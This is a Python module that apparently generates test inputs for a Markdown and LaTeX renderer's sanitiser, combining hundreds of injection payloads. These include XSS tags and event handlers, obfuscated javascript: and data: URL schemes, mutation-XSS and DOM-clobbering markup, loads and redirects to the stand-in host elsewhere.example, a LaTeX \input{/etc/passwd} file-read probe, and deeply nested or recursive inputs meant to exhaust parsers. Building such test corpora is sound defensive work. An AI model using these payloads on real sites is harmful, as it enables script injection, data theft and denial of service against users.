"""Markdown that tries to be more than text, in families."""

from itertools import product

SCRIPT = "pwned()"
TAGS = (
    f"<script>{SCRIPT}</script>",
    f"<script src=//elsewhere.example/x.js></script><x-pwn class=pwn onclick={SCRIPT}>",
    f"<img src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}><use href='//elsewhere.example/x.svg#a'/></svg>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}></style></table></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={SCRIPT}></annotation-xml>",
    f"<math href='javascript:{SCRIPT}'>x</math>",
    "<style>@import '//elsewhere.example/x.css'; * { background: url(//elsewhere.example) }",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
    f"<object data='javascript:{SCRIPT}'></object><embed src=//elsewhere.example/x>",
    "<form action=//elsewhere.example/><button class=pwn>Next</button></form>",
    "<base href=//elsewhere.example/><meta http-equiv=refresh content='0;//elsewhere.example/'>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<a href='javascript:{SCRIPT}' onmouseover={SCRIPT}>x</a>",
    f"<template><img src=x onerror={SCRIPT}></template>",
    f"<form id=x></form><select></form></select><style></select><img src=x onerror={SCRIPT}>",
    "<img name=createElement><img id=stage name=getElementById><p id=work-document>{}</p>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<!-- --!><img src=x onerror={SCRIPT}> -->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={SCRIPT}>",
    f"<p style='position:fixed;inset:0' class=pwn onfocus={SCRIPT} tabindex=0 autofocus>",
    f"<title><img src=x onerror={SCRIPT}></title><textarea></title>",
    f"<video><source onerror={SCRIPT}></video><audio src=//elsewhere.example/a autoplay>",
)
AROUND = (
    *("{}", "**{}**", "`{}`", "> {}", "- {}", "# {}", "| {} | b |\n|---|---|\n| {} | c |"),
    *("```html\n{}\n```", "```{}\nx\n```", "    {}", "$\\text{{{}}}$", "$${}$$", "[{}](x)"),
    *("![{}](x)", "[x](<{}>)", '[x](y "{}")', "[{}]: y\n\n[{}]", "\\({}\\)", "<{}@a.example>"),
)
SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java&#10;script:{}",
        "&#x6A;avascript:{}",
    ),
    *(
        "\x01javascript:{}",
        "vbscript:{}",
        "data:text/html,<script>{}</script>",
        "//elsewhere.example/{}",
    ),
    *(
        "data:image/svg+xml,<svg onload={}>",
        "https://elsewhere.example/?{}",
        "\\\\elsewhere.example\\{}",
    ),
    *("blob:{}", "file:///{}", "about:blank#{}", "https:elsewhere.example/{}", "%6aavascript:{}"),
)
LINKS = (
    *("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x] ![x]", "[![x]({})]({})", "[x](<{}>)"),
    *("![]({})", "$\\href{{{}}}{{x}}$", "$\\includegraphics{{{}}}$", "$\\url{{{}}}$"),
)
ENTITIES = (
    *(
        "&lt;script&gt;pwned()&lt;/script&gt;",
        "&#60;img src=x onerror=pwned()&#62;",
        "&#x3c;svg onload=pwned()&#x3e;",
    ),
    *(
        "&lt;&lt;script>pwned()//",
        "&amp;lt;script&amp;gt;",
        "\\<script>pwned()\\</script>",
        "&NewLine;&Tab;&colon;",
    ),
)
HIDDEN = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u00ad",
    "\u2028",
    "\x00",
    "\x1b",
    "\ud7ff",
    "\u0301" * 50,
)
LATEX = (
    *(r"\style{position:fixed}{x}", r"\class{pwn}{x}", r"\cssId{stage}{x}", r"\htmlId{stage}{x}"),
    *(r"\color{red;background:url(//elsewhere.example)}x", r"\unicode{60}", r"\def\x{\x\x}\x"),
    *(
        r"\newcommand{\a}{\a\a}\a",
        r"\text{</math><img src=x onerror=pwned()>}",
        r"\input{/etc/passwd}",
    ),
    *(
        r"\begin{array}{c}" * 50,
        r"\mathchoice{a}{b}{c}{d}",
        r"\htmlData{x=y}{z}",
        r"\require{html}",
    ),
)
NESTED = (
    *("> " * 10_000, "- " * 5_000, "[" * 10_000, "![" * 10_000, "*" * 20_000, "**a " * 5_000),
    *("`" * 10_000, "$" * 10_000, "\\(" * 10_000, "<" * 10_000, "&" * 10_000, "|" * 10_000),
    *("1. " * 5_000, "#" * 10_000, "```\n" * 5_001, "~~" * 9_999, "|a|\n|-|\n" + "|x|\n" * 6_000),
    *("$" + "{" * 900 + "x" + "}" * 900 + "$", "$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$"),
    *("(" * 20_000, "[a](" * 8_000, "a\n=\n" * 8_000, "\t" * 30_000, "> - " * 5_000, "_a" * 9_000),
)
UNCLOSED = tuple(
    f"{start}{tag}"
    for start, tag in product(
        ("```", "~~~html\n", "`", "$$", "\\[\n", "<!--", "[x](", "> ```\n"), TAGS[:6]
    )
)


def payloads() -> list[str]:
    found = [around.replace("{}", tag) for around, tag in product(AROUND, TAGS)]
    found += [
        link.replace("{{", "{").replace("}}", "}").replace("{}", scheme.format(SCRIPT))
        for link, scheme in product(LINKS, SCHEMES)
    ]
    found += [f"{mark}{tag}{mark}" for mark, tag in product(HIDDEN, TAGS[:6])]
    found += [f"{around}{latex}{around}" for around, latex in product(("$", "$$"), LATEX)]
    return list(dict.fromkeys([*found, *ENTITIES, *UNCLOSED, *NESTED]))
